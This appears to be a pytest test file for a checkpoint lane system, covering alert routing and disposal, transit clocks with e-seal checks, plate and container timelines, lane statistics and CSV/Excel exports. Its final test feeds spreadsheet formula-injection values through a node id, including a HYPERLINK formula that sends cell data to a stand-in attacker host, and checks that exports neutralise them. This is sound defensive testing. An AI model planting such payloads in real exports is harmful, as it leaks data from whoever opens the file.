"""From lane passes to alerts (routed, acknowledged, disposed), transit clocks, the traceability
timeline and lane statistics."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

from central_helpers import Api, ingest, issue_order, transit_sites

from kakou.central import ingest as central_ingest
from kakou.central import projections, transit
from kakou.central.service import Central
from kakou.sync import rates
from kakou.sync.checks import texts_script

HIT = {
    "code": "control_order_hit",
    "ok": False,
    "params": {"order_no": "BK1", "target": "container", "value": "MSKU1234565", "note": "inspect"},
}
HEAVY = {
    "code": "weight_over",
    "ok": False,
    "params": {"gross_kg": 41000, "expected_kg": 30000, "diff_kg": 11000, "tolerance_kg": 900},
}


def seal(no: str) -> dict:
    return {"code": "e_seal_read", "ok": True, "params": {"seal": no}}


CAMERA = {"code": "device_fault", "ok": False, "params": {"fault": "plate camera timeout"}}


def test_lane_findings_become_routed_alerts_that_field_staff_dispose_of(api: Api, central: Central) -> None:
    ingest(central, 1, "粤B12345", outcome="inspection", containers=["MSKU1234565"], checks=[HIT])
    ingest(central, 2, "粤B22222", outcome="officer", checks=[HEAVY])
    ingest(central, 3, None, outcome="officer", checks=[CAMERA])
    ingest(central, 4, None, outcome="officer", checks=[CAMERA])  # the same fault within the hour: no new alert
    ingest(central, 5, "粤B33333")  # a clean pass: no alert
    # A lane older than check codes sent sentences: still alerted, by the old check name.
    ingest(
        central,
        6,
        "粤B44444",
        outcome="officer",
        reasons=["impossible weight reading 250000 kg"],
        checks=[{"name": "device", "ok": False, "detail": "impossible weight reading 250000 kg"}],
    )
    assert projections.run_all(central) == 6
    assert projections.run_all(central) == 0  # nothing is alerted twice

    fred = api("fred")
    mine = fred.get("/api/v1/alerts", params={"mine": True}).json()["items"]
    assert sorted(a["kind"] for a in mine) == ["control_hit", "device_fault", "device_fault", "weight_anomaly"]
    assert any("impossible weight" in a["message"] for a in mine)
    assert "n1/L1：设备故障：plate camera timeout" in [a["message"] for a in mine]
    heavy = "n1/L1 粤B22222：超重：毛重 41000 kg，预期 30000 kg（+11000 kg，允差 ±900 kg）"
    assert heavy in [a["message"] for a in mine]
    hit = next(a for a in mine if a["kind"] == "control_hit")
    assert hit["subject"] == "粤B12345" and hit["severity"] == "high"
    assert hit["message"] == "n1/L1 粤B12345：布控 BK1（container MSKU1234565）：inspect"

    r = fred.post(f"/api/v1/alerts/{hit['id']}/acknowledge", json={"text": "on my way to lane 1"})
    assert r.json()["status"] == "acknowledged" and r.json()["acknowledged_by"] == "fred"
    assert fred.post(f"/api/v1/alerts/{hit['id']}/acknowledge", json={}).status_code == 409
    assert fred.post(f"/api/v1/alerts/{hit['id']}/dispose", json={"disposal": ""}).status_code == 422
    r = fred.post(f"/api/v1/alerts/{hit['id']}/dispose", json={"disposal": "container opened, goods as declared"})
    assert r.json()["status"] == "disposed"
    assert [n["kind"] for n in r.json()["notes"]] == ["acknowledge", "dispose"]
    assert api("rita").post(f"/api/v1/alerts/{hit['id']}/notes", json={"text": "x"}).status_code == 403
    assert api("admin").get("/api/v1/audit", params={"target": f"alert:{hit['id']}"}).json()[0]["actor"] == "fred"


def test_console_and_field_page_get_the_check_texts_from_the_one_dictionary(api: Api) -> None:
    client = api.anonymous()
    r = client.get("/ui/check-texts.js")
    # the check texts, then the rates' names and definitions (kakou.sync.rates): one dictionary each
    assert r.status_code == 200 and r.text == texts_script() + rates.terms_script()
    for page in ("/console", "/field"):
        assert 'src="/ui/check-texts.js"' in client.get(page).text


def test_an_offline_lane_raises_one_alert(api: Api, central: Central) -> None:
    central_ingest.set_presence(central, "n7", online=False)
    assert projections.check_nodes(central) == 1
    assert projections.check_nodes(central) == 0
    alerts = api("fred").get("/api/v1/alerts", params={"kind": "lane_offline"}).json()["items"]
    assert [a["subject"] for a in alerts] == ["n7"]


def test_transit_clock_starts_at_entry_and_closes_at_destination(api: Api, central: Central) -> None:
    transit_sites(api)
    alice = api("alice")
    r = alice.post(
        "/api/v1/transits",
        json={
            "transit_no": "ZG1",
            "plate": "粤B12345",
            "entry_site": "ENTRY",
            "destination_site": "DEST",
            "e_seal": "SEAL-9",
            "time_limit_h": 6,
        },
    )
    assert r.status_code == 201 and r.json()["status"] == "declared"
    t0 = datetime.now(UTC) - timedelta(hours=3)
    ingest(central, 1, "粤B12345", node="a", at=t0, checks=[seal("SEAL-9")])
    projections.run_all(central)
    started = alice.get("/api/v1/transits/ZG1").json()
    assert started["status"] == "en_route" and started["seal_ok"] is True
    assert transit.check_overdue(central) == []  # 3 h of 6 used
    ingest(central, 1, "粤B12345", node="b", at=t0 + timedelta(hours=2), checks=[seal("SEAL-9")])
    projections.run_all(central)
    closed = alice.get("/api/v1/transits/ZG1").json()
    assert closed["status"] == "closed" and closed["seal_ok"] is True and closed["close_pass"] == "b-L1-1"


def test_overdue_transit_and_a_wrong_seal_raise_alerts(api: Api, central: Central) -> None:
    transit_sites(api)
    api("alice").post(
        "/api/v1/transits",
        json={
            "transit_no": "ZG2",
            "plate": "粤B7",
            "entry_site": "ENTRY",
            "destination_site": "DEST",
            "e_seal": "SEAL-1",
            "time_limit_h": 2,
        },
    )
    ingest(central, 1, "粤B7", node="a", at=datetime.now(UTC) - timedelta(hours=3), checks=[seal("SEAL-1")])
    projections.run_all(central)
    assert transit.check_overdue(central) == ["ZG2"]
    ingest(central, 1, "粤B7", node="b", checks=[{"name": "e_seal", "ok": True, "detail": "SEAL-666"}])
    projections.run_all(central)
    t = api("alice").get("/api/v1/transits/ZG2").json()
    assert t["status"] == "closed_late" and t["seal_ok"] is False
    kinds = sorted(a["kind"] for a in api("alice").get("/api/v1/alerts").json()["items"])
    assert kinds == ["transit_overdue", "transit_seal"]


def test_timeline_of_a_plate_and_of_a_container_with_range_and_csv(api: Api, central: Central) -> None:
    alice = api("alice")
    now = datetime.now(UTC)
    issue_order(
        api,
        {
            "order_no": "HF1",
            "plate": "粤B12345",
            "direction": "out",
            "containers": ["MSKU1234565"],
            "valid_from": (now - timedelta(days=1)).isoformat(),
            "valid_until": (now + timedelta(days=1)).isoformat(),
        },
    )
    ingest(
        central,
        1,
        "粤B12345",
        containers=["MSKU1234565"],
        at=now - timedelta(hours=5),
        checks=[HIT],
        outcome="inspection",
    )
    ingest(central, 2, "粤B12345", containers=["MSKU1234565"], release_order="HF1", at=now - timedelta(hours=1))
    ingest(central, 3, "粤B99999", at=now - timedelta(hours=1))
    projections.run_all(central)

    events = alice.get("/api/v1/trace/plate/粤B12345").json()
    kinds = [e["kind"] for e in events]
    assert kinds.count("pass") == 2 and "release_order" in kinds and "alert" in kinds
    assert [e["at"] for e in events] == sorted(e["at"] for e in events)
    recent = alice.get(
        "/api/v1/trace/container/MSKU1234565", params={"since": (now - timedelta(hours=2)).isoformat()}
    ).json()
    assert [e["ref"] for e in recent if e["kind"] == "pass"] == ["n1-L1-2"]
    assert any(e["kind"] == "release_order" for e in recent)  # found through the pass's order
    r = alice.get("/api/v1/trace/plate/粤B12345", params={"format": "csv"})
    rows = list(csv.reader(io.StringIO(r.text)))
    assert r.headers["content-type"].startswith("text/csv") and rows[0] == ["at", "kind", "ref", "summary"]
    assert len(rows) == len(events) + 1
    assert alice.get("/api/v1/trace/plate/苏E00000").json() == []


def test_lane_statistics(api: Api, central: Central) -> None:
    at = datetime(2026, 11, 25, 8, 30, tzinfo=UTC)
    ingest(central, 1, "粤B1", at=at)
    ingest(central, 2, "粤B2", at=at + timedelta(minutes=10), outcome="inspection", checks=[HIT])
    ingest(central, 3, "粤B3", at=at + timedelta(hours=1), outcome="officer", entered_by="lena")
    ingest(central, 4, None, at=at + timedelta(hours=1), outcome="officer", checks=[CAMERA])
    ingest(central, 1, "粤B5", node="n2", at=at)
    stats = {s["lane"]: s for s in api("lena").get("/api/v1/stats/lanes").json()}
    s = stats["n1/L1"]
    assert s["passes"] == 4 and s["per_hour"] == {"2026-11-25T08": 2, "2026-11-25T09": 2}
    assert (
        s["recognition_rate"],
        s["manual_intervention_rate"],
        s["inspection_rate"],
        s["hit_rate"],
        s["device_availability"],
    ) == (0.5, 0.25, 0.25, 0.25, 0.75)
    assert stats["n2/L1"]["passes"] == 1


def test_timeline_exports_to_excel(api: Api, central: Central) -> None:
    import io

    from openpyxl import load_workbook

    ingest(central, 1, "粤B12345")
    projections.run_all(central)
    r = api("alice").get("/api/v1/trace/plate/粤B12345", params={"format": "xlsx"})
    assert r.status_code == 200
    rows = list(load_workbook(io.BytesIO(r.content)).worksheets[0].iter_rows(values_only=True))
    assert rows[0] == ("at", "kind", "ref", "summary") and rows[1][1:3] == ("pass", "n1-L1-1")


def test_routing_rules_send_alerts_to_the_right_person(api: Api, central: Central) -> None:
    from kakou.central import auth

    auth.add_user(central, "test-setup", "gina", auth.Role.FIELD_STAFF, "gina's password 1")
    alice = api("alice")
    bad = alice.post("/api/v1/alert-routes", json={"kind": "weight_anomaly", "role": "field_staff", "assignee": "rita"})
    assert bad.status_code == 422 and "not a user with role field_staff" in bad.json()["title"]
    r = alice.post(
        "/api/v1/alert-routes",
        json={
            "kind": "weight_anomaly",
            "subject_prefix": "粤B9",
            "role": "field_staff",
            "assignee": "gina",
            "severity": "high",
            "priority": 10,
        },
    )
    assert r.status_code == 201, r.text
    alice.post("/api/v1/alert-routes", json={"kind": "*", "role": "central_officer", "priority": 50})
    ingest(central, 1, "粤B90001", outcome="officer", checks=[HEAVY])  # gina's rule
    ingest(central, 2, "粤B12345", outcome="officer", checks=[HEAVY])  # the catch-all rule
    projections.run_all(central)

    gina = api.anonymous()
    token = gina.post("/api/v1/auth/login", json={"username": "gina", "password": "gina's password 1"}).json()
    gina.headers["Authorization"] = f"Bearer {token['access_token']}"
    mine = gina.get("/api/v1/alerts", params={"mine": True}).json()["items"]
    assert [(a["subject"], a["assignee"], a["severity"]) for a in mine] == [("粤B90001", "gina", "high")]
    assert api("fred").get("/api/v1/alerts", params={"mine": True}).json()["items"] == []
    officer = api("bob").get("/api/v1/alerts", params={"mine": True}).json()["items"]
    assert [a["subject"] for a in officer] == ["粤B12345"]

    routes = alice.get("/api/v1/alert-routes").json()
    assert alice.delete(f"/api/v1/alert-routes/{routes[0]['id']}").status_code == 204
    assert len(alice.get("/api/v1/alert-routes").json()) == 1


def test_disposing_of_a_control_hit_can_release_the_truck_at_its_lane_only(
    api: Api, central: Central, tmp_path
) -> None:
    from kakou.central import changelog
    from kakou.edge.store import EdgeStore

    held = ingest(central, 1, "粤B12345", node="n1", lane="L2", outcome="officer", checks=[HIT])
    ingest(central, 2, "粤B22222", node="n1", outcome="officer", checks=[HEAVY])
    projections.run_all(central)
    fred = api("fred")
    mine = fred.get("/api/v1/alerts", params={"mine": True}).json()["items"]
    hit = next(a for a in mine if a["kind"] == "control_hit")
    heavy = next(a for a in mine if a["kind"] == "weight_anomaly")
    r = fred.post(f"/api/v1/alerts/{heavy['id']}/dispose", json={"disposal": "reweighed", "release_vehicle": True})
    assert r.status_code == 422 and "control-order hit" in r.text, r.text
    r = fred.post(
        f"/api/v1/alerts/{hit['id']}/dispose",
        json={"disposal": "情报核实无误 checked, release", "release_vehicle": True},
    )
    assert r.status_code == 200, r.text

    def node_store(node: str) -> EdgeStore:
        store = EdgeStore(tmp_path / f"{node}.db")
        for stream in changelog.streams_of(central, node):
            store.apply_batch(changelog.changes_after(central, 0, stream=stream), datetime.now(UTC))
        return store

    mine_n1, other_n2 = node_store("n1"), node_store("n2")
    (row,) = mine_n1.query("SELECT key, data FROM knowledge WHERE kind = 'control_disposal'")
    assert row[0] == held and '"release": true' in row[1] and '"by": "fred"' in row[1] and '"lane": "L2"' in row[1]
    assert other_n2.query("SELECT key FROM knowledge WHERE kind = 'control_disposal'") == []
    mine_n1.close()
    other_n2.close()
    trail = fred.get(f"/api/v1/alerts/{hit['id']}").json()
    assert trail["status"] == "disposed" and trail["disposed_by"] == "fred"


def test_exports_never_write_a_formula(api: Api, central: Central) -> None:
    # Edge-supplied text (here the node id, and so the pass_id) that a spreadsheet would run.
    evil = '=HYPERLINK("http://e.vil/?"&A1,"x")'
    ingest(central, 1, "粤B12345", node=evil)
    ingest(central, 2, "粤B12345", node="@SUM(1+1)")
    ingest(central, 3, "粤B12345", node="-2+3")
    projections.run_all(central)
    alice = api("alice")
    rows = list(csv.reader(io.StringIO(alice.get("/api/v1/trace/plate/粤B12345", params={"format": "csv"}).text)))
    refs = [r[2] for r in rows[1:]]
    assert f"'{evil}-L1-1" in refs and "'@SUM(1+1)-L1-2" in refs and "'-2+3-L1-3" in refs
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)

    from openpyxl import load_workbook

    xlsx = alice.get("/api/v1/trace/plate/粤B12345", params={"format": "xlsx"}).content
    cells = [c for row in load_workbook(io.BytesIO(xlsx)).worksheets[0].iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert f"'{evil}-L1-1" in [c.value for c in cells]
